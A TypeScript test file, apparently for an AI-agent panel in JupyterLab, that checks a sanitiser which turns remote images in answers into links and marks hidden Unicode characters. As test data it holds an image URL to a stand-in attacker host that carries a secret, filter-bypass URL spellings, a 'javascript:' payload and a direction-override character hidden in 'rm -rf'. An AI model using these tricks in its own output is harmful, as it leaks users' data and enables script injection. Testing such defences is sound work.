import { describe, expect, it } from 'vitest';

import {
  decodeAttribute,
  isRemote,
  markHiddenCharacters,
  neutralizeRemoteImages,
  RemoteImageSanitizer
} from '../src/remoteImages';

const PAGE = 'http://localhost:8888/lab/tree/work/a.ipynb';

describe('remote images in answers', () => {
  it('become links and are never <img> tags', () => {
    const html = '<p>see <img src="https://evil.example/x.png?d=s3cret&amp;k=1" alt="chart"> now</p>';
    const out = neutralizeRemoteImages(html, PAGE);
    expect(out).not.toContain('<img');
    expect(out).toContain('href="https://evil.example/x.png?d=s3cret&amp;k=1"');
    expect(out).toContain('[image: chart]');
  });

  it('keep data: URIs and the server own files, drop srcset images', () => {
    const local = '<img src="data:image/png;base64,AA==" alt="a"><img src="files/plot.png">';
    expect(neutralizeRemoteImages(local, PAGE)).toBe(local);
    expect(neutralizeRemoteImages('<img srcset="//evil.example/a.png 2x" src="x.png">', PAGE)).not.toContain('<img');
    for (const src of ['//evil.example/a', 'HTTP://evil.example/a', ' ftp://x/y']) {
      expect(isRemote(src, PAGE)).toBe(true);
    }
    expect(isRemote('files/a.png', PAGE)).toBe(false);
  });

  // Finding 5 of "Trust": every spelling a browser accepts, decided by the browser's own URL parser.
  it('count every spelling a browser resolves to another host as remote', () => {
    const spellings = [
      'https:evil.example/x.png',
      '\\\\evil.example/x.png',
      '/\\evil.example/x.png',
      '\\/evil.example/x.png',
      'https:\\\\evil.example/x.png',
      'ht\ttps://evil.example/x.png',
      'ht\nTPS://evil.example/x.png',
      'HtTpS://evil.example/x.png',
      'data:text/html,hi',
      'javascript:alert(1)'
    ];
    for (const src of spellings) {
      expect(isRemote(src, PAGE), src).toBe(true);
      const out = neutralizeRemoteImages(`<img src="${src}">`, PAGE);
      expect(out, src).not.toContain('<img');
      expect(out, src).not.toContain('javascript:alert(1)"');
    }
    // The sanitiser may write a character reference: it is decoded as the browser decodes it.
    expect(neutralizeRemoteImages('<img src="https&#58;evil.example/x.png">', PAGE)).not.toContain('<img');
    expect(neutralizeRemoteImages('<img src="ht&Tab;tps://evil.example/x.png">', PAGE)).not.toContain('<img');
    expect(decodeAttribute('a&amp;b&#x41;&#66;&quot;')).toBe('a&bAB"');
  });

  it('keep relative images on the page origin under http and https alike', () => {
    for (const page of [PAGE, 'https://hub.example/user/me/lab']) {
      for (const src of ['plot.png', '../files/plot.png', '/files/plot.png', 'data:image/svg+xml;base64,AA==']) {
        expect(isRemote(src, page), `${src} on ${page}`).toBe(false);
      }
    }
    // A scheme-relative spelling stays on the page only when the page has that scheme.
    expect(isRemote('https:x.png', 'https://hub.example/lab')).toBe(false);
    expect(isRemote('https:x.png', PAGE)).toBe(true);
  });

  it('wraps the base sanitiser', () => {
    const base = { sanitize: (s: string) => s.replace('<script>x</script>', ''), getAutolink: () => false };
    const sanitizer = new RemoteImageSanitizer(base, () => PAGE);
    expect(sanitizer.sanitize('<script>x</script><img src="https://a/b">')).toBe(
      '<a class="jp-nbagent-remote-image" href="https://a/b" target="_blank" rel="noopener noreferrer nofollow" ' +
        'title="remote image, not loaded: click to open">[image: https://a/b]</a>'
    );
    expect(sanitizer.getAutolink()).toBe(false);
  });
});

// Finding 12 of "Trust", in the panel's answers: hidden characters in text are shown, tags are untouched.
describe('hidden characters in answers', () => {
  it('are marked in text and never inside a tag', () => {
    const html = '<p title="a\u202eb">rm\u202e -rf <code>x\u200by</code>\u2028</p>';
    const out = markHiddenCharacters(html);
    expect(out).toContain('<p title="a\u202eb">');
    expect(out).toContain('rm<span class="jp-nbagent-hidden-char" title="hidden character">&lt;U+202E&gt;</span> -rf');
    expect(out).toContain('x<span class="jp-nbagent-hidden-char" title="hidden character">&lt;U+200B&gt;</span>y');
    expect(out).toContain('&lt;U+2028&gt;');
    expect(markHiddenCharacters('<p>plain &amp; simple</p>')).toBe('<p>plain &amp; simple</p>');
  });

  it('are marked by the panel sanitiser', () => {
    const sanitizer = new RemoteImageSanitizer({ sanitize: (s: string) => s }, () => PAGE);
    expect(sanitizer.sanitize('<p>a\u202eb</p>')).not.toMatch(/a\u202eb/);
  });
});
